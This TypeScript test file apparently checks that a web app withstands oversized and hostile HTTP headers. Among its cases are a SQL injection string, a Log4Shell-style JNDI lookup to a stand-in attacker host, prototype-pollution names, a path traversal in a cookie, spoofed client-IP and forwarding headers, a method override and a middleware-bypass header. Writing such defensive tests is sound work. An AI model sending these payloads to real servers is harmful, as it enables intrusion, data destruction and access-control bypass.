import { got, type Hostile, inAddress, many } from './request.ts';

/** Header fields that are long, malformed, or meant for a proxy. */

const contact = '/graphql?query=%7Bcontact%7Bphone%7D%7D';
const list = inAddress('{ newBooks { items { id } } }');

export const ofHeaders: readonly Hostile[] = [
  got('headers: 2,500 languages', '200', contact, {
    'accept-language': many(2_500, (n) => `a;q=0.${n % 10}`, ',').slice(0, 15_000),
  }),
  got('headers: 2,500 languages for a page', '200', '/', { 'accept-language': many(2_500, () => 'x-y', ',') }),
  got('headers: a language named like a prototype', '200', '/', { 'accept-language': '__proto__, constructor;q=2' }),
  got('headers: a quality that is no number', '200', '/', { 'accept-language': 'ar;q=1e999, en;q=NaN' }),
  got('headers: 1,500 types', '406 BAD_REQUEST', contact, {
    accept: many(1_500, (n) => `a/b${n}`, ',').slice(0, 15_000),
  }),
  got('headers: a type of 15 kB', '406 BAD_REQUEST', contact, { accept: `a/${'b'.repeat(15_000)}` }),
  got('headers: 3,000 quotes in a type', '200', contact, { accept: `text/html;a="${'\\"'.repeat(3_000)}` }),
  got('headers: 1,500 encodings', '200', '/about', {
    'accept-encoding': many(1_500, (n) => `x${n};q=0.1`, ',').slice(0, 15_000),
  }),
  got('headers: no encoding at all', '200', '/about', { 'accept-encoding': 'identity;q=0, *;q=0' }),
  got('headers: 3,000 cookies for a page', '200', '/', { cookie: many(3_000, () => 'a=b', '; ').slice(0, 15_000) }),
  got('headers: 3,000 cookies of one name', '200', contact, {
    cookie: many(1_500, () => 'session=x', ';').slice(0, 15_000),
  }),
  got('headers: cookies named like prototypes', '200', '/', {
    cookie: '__proto__=x; constructor=y; i18nextLng=__proto__',
  }),
  got('headers: a cookie of the language with a path', '200', '/', { cookie: 'i18nextLng=../../ar' }),
  got('headers: a token of 15 kB', '200', contact, { authorization: `Bearer ${'eyJ.'.repeat(3_700)}` }),
  got('headers: 15 kB of ETags', '200', list, { 'if-none-match': many(3_500, () => '"a"', ',').slice(0, 15_000) }),
  got('headers: ETags that never end', '200', list, { 'if-none-match': `W/"${'x,'.repeat(7_000)}` }),
  got('headers: a date of 10 kB', '200', '/favicon.svg', { 'if-modified-since': '9'.repeat(10_000) }),
  got('headers: 2,000 ranges of a file', '206', '/favicon.svg', {
    range: `bytes=${many(2_000, (n) => `${n}-`, ',')}`.slice(0, 15_000),
  }),
  got('headers: a range of an operation', '200', list, { range: 'bytes=0-0' }),
  got('headers: a range backwards', '416', '/favicon.svg', { range: 'bytes=9-1' }),
  got('headers: 15 kB of forwarded addresses', '200', '/', {
    'x-forwarded-for': many(1_800, () => '1.1.1.1', ',').slice(0, 15_000),
  }),
  got('headers: a forwarded address that is none', '200', list, { 'x-forwarded-for': "'; DROP TABLE books; --" }),
  got('headers: an address by every other name', '200', list, {
    'x-real-ip': '127.0.0.1',
    'cf-connecting-ip': '127.0.0.1',
    'true-client-ip': '127.0.0.1',
    forwarded: 'for=127.0.0.1;host=evil.example;proto=https',
  }),
  got('headers: another method', '200', '/about', { 'x-http-method-override': 'DELETE' }),
  got('headers: another address', '200', '/about', { 'x-original-url': '/metrics', 'x-rewrite-url': '/metrics' }),
  got('headers: the fields of a middleware', '302', '/myaccount', {
    'x-middleware-subrequest': 'middleware:middleware',
  }),
  got('headers: an id of 15 kB for the request', '200', list, { 'x-request-id': 'x'.repeat(15_000) }),
  got('headers: an escape sequence for the log', '200', list, {
    'user-agent': '\u001B'.replace('\u001B', '%1b[2J') + '${jndi:ldap://evil.example}',
  }),
  got('headers: a trace that is none', '200', list, {
    traceparent: '00-'.repeat(3_000),
    tracestate: 'a=b,'.repeat(1_000),
  }),
];
